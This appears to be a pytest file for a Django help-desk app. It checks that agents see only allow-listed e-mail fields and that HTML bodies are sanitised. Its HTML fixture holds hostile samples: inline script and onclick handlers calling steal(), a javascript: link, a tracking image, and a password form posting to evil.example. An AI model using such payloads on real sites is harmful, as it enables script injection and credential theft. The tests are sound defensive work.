"""E-mail tasks on the desk: subject, sender, body, and no more of the data than the allocation list names."""

from __future__ import annotations

from collections.abc import Sequence

import pytest
from django.test import Client
from django.utils import timezone

from channels_cfg.models import Channel, Right
from conversations import lifecycle
from conversations.models import Conversation, Task
from tests.factories import ChannelFactory, QueueFactory, queued_conversation, user_with

pytestmark = pytest.mark.django_db

HTML = (
    '<div onclick="steal()">Please call <b>Maija</b>. <a href="javascript:steal()">Bad</a> <a href="/admin/">Own</a>'
    '<a href="https://shop.example/?a=1&b=2">Order</a><img src="https://tracker.example/1.gif"><script>steal()</script>'
    '<form action="https://evil.example"><input name="password"></form><style>body{display:none}</style></div>'
)


def task(data: dict[str, str], *, allocated: list[str], kept: Sequence[str] = ()) -> tuple[Client, Conversation]:
    channel = ChannelFactory(kind=Channel.Kind.EMAIL, allocation_keys=allocated, statistics_keys=list(kept))
    queue = QueueFactory(channel=channel)
    facts = {"subject": "It came <back>", "customer_address": "maija@example.com"}
    conversation = queued_conversation(queue, data=data, **facts)
    Task.objects.create(conversation=conversation, kind="XRI", to_address="taskdesk@example.com")
    browser = Client()
    browser.force_login(user_with(Right.SERVE, Right.VIEW_HISTORY, on=queue, username="anna"))
    return browser, conversation


def page(browser: Client, path: str) -> str:
    answer = browser.get(path)
    assert answer.status_code == 200
    return answer.content.decode()


def test_the_agent_sees_subject_sender_body_and_the_listed_data(db):
    browser, conversation = task(
        {"XRI-body": "Please call <Maija>.\nThanks", "orderId": "FI1", "secret": "S"},
        allocated=["XRI-body", "orderId"],
    )

    shown = page(browser, f"/desk/{conversation.pk}/")

    assert "It came &lt;back&gt;" in shown and "maija@example.com" in shown and "FI1" in shown
    assert "Please call &lt;Maija&gt;.\nThanks" in shown
    assert "XRI-body" not in shown and "secret" not in shown


def test_a_body_that_is_not_on_the_list_does_not_reach_the_agent(db):
    browser, conversation = task({"XRI-body": "Please call", "orderId": "FI1"}, allocated=["orderId"])

    shown = page(browser, f"/desk/{conversation.pk}/")

    assert "Please call" not in shown and "FI1" in shown


@pytest.mark.parametrize("ended", [False, True])
def test_html_of_a_body_is_shown_and_nothing_of_it_runs_or_is_loaded(db, ended):
    browser, conversation = task({"XRI-body": HTML}, allocated=["XRI-body"], kept=["XRI-body"])
    path = f"/desk/{conversation.pk}/"
    if ended:
        agent = user_with(Right.SERVE, on=conversation.queue)
        lifecycle.accept(conversation.pk, by=agent, now=timezone.now())
        lifecycle.end(conversation.pk, by=agent, now=timezone.now())
        path = f"/history/{conversation.pk}/"

    shown = page(browser, path)

    body = shown[shown.index('<div class="foreign"') :]
    body = body[: body.index("</section>")]
    assert "<div>Please call <b>Maija</b>. <a " in body and "1 image is not loaded." in body
    assert 'href="https://shop.example/?a=1&amp;b=2"' in body and 'rel="noopener noreferrer nofollow"' in body
    for bad in ("steal", "tracker", "evil", "<form", "<input", "display:none", "/admin/", "onclick"):
        assert bad not in body


def test_a_body_that_is_not_kept_leaves_its_name_and_why(db):
    browser, conversation = task({"XRI-body": HTML}, allocated=["XRI-body"])
    agent = user_with(Right.SERVE, on=conversation.queue)
    lifecycle.accept(conversation.pk, by=agent, now=timezone.now())
    lifecycle.end(conversation.pk, by=agent, now=timezone.now())

    shown = page(browser, f"/history/{conversation.pk}/")

    assert "Maija" not in shown and "XRI-body" in shown and "Not kept by the settings" in shown
    assert "taskdesk@example.com" in shown and "It came &lt;back&gt;" in page(browser, "/history/")
